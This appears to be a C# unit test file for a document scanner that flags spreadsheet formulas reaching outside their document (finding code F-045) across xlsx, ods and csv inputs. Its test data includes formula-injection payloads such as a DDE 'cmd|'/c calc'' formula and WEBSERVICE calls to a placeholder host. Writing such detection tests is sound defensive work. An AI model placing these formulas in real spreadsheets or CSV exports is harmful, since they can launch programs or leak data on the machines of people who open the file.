using Cyberflag.Formats;
using Xunit;

namespace Cyberflag.Tests.Formats;

public class CallingFormulaTests
{
    [Theory]
    [InlineData("WEBSERVICE(\"http://example.invalid/\"&A1)", true)]
    [InlineData("_xlfn.WEBSERVICE(A1)", true)]
    [InlineData("cmd|'/c calc'!A1", true)]
    [InlineData("of:=DDE(\"soffice\";\"a\";\"b\")", true)]
    [InlineData("SUM(A1:A9)", false)]
    [InlineData("MYWEBSERVICE(A1)", false)]
    [InlineData("IF(A1=\"a|b\",1,0)", false)]
    [InlineData("HYPERLINK(\"#A1\")", false)]
    public void A_formula_that_reaches_out_of_its_document_is_known(string formula, bool calls) => Assert.Equal(calls, CallingFormula.Calls(formula));

    [Fact]
    public void In_every_format_it_is_told_and_its_stored_result_read()
    {
        var workbook = DocumentReader.Read("a.xlsx", WorkbookFile.Of("<row r=\"1\"><c r=\"B1\"><f>WEBSERVICE(\"http://example.invalid\")</f><v>7</v></c></row>"));
        Assert.Equal(7.0, Documents.Grid(workbook)[0, 1].Number);
        Assert.Contains("the first at B1", Assert.Single(workbook.Findings, f => f.Code == "F-045").Message, StringComparison.Ordinal);

        var spreadsheet = DocumentReader.Read("a.ods", OdsFile.Of(
            "<table:table-row><table:table-cell table:formula=\"of:=DDE(&quot;a&quot;;&quot;b&quot;)\" office:value-type=\"float\" office:value=\"7\"><text:p>7</text:p></table:table-cell></table:table-row>"));
        Assert.Equal((7.0, "F-045"), (Documents.Grid(spreadsheet)[0, 0].Number, Assert.Single(spreadsheet.Findings).Code));

        var table = Documents.Read("a.csv", "Force,2018/19\nNorth,=cmd|'/c calc'!A1\nSouth,-5\n");
        Assert.Equal("=cmd|'/c calc'!A1", Documents.Grid(table)[1, 1].Text);
        Assert.Equal("F-045", Assert.Single(table.Findings).Code);
    }
}
